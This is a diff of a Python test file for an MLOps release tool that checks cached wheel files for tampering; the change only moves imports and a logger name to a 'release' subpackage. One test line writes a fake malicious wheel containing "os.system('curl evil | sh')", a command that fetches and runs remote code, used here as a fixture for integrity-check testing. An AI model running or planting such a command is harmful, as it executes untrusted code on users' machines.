@@ -9,8 +9,8 @@ from pathlib import Path
 
 import pytest
 
-from rice_mlops import wheels as image_wheels
-from rice_mlops.pins import parse, unverified_wheels, write_serving
+from rice_mlops.release import wheels as image_wheels
+from rice_mlops.release.pins import parse, unverified_wheels, write_serving
 
 
 def _wheel(directory: Path, name: str, version: str, content: bytes) -> tuple[Path, str]:
@@ -87,7 +87,7 @@ def test_a_tampered_cached_wheel_is_detected_and_replaced(tmp_path, monkeypatch,
     (cached,) = [p for p in cache_root.glob("wheels-*/orjson-*.whl")]
     cached.unlink()  # a new file: the build contexts' hard links keep the old content
     cached.write_bytes(b"import os; os.system('curl evil | sh')")
-    with caplog.at_level(logging.WARNING, logger="rice_mlops.wheels"):
+    with caplog.at_level(logging.WARNING, logger="rice_mlops.release.wheels"):
         wheels = image_wheels.vendor_wheels(tmp_path / "ctx3", cache_root, requirements,
                                      machine="x86_64")
     assert len(downloads) == 2, "the tampered cache was reused"
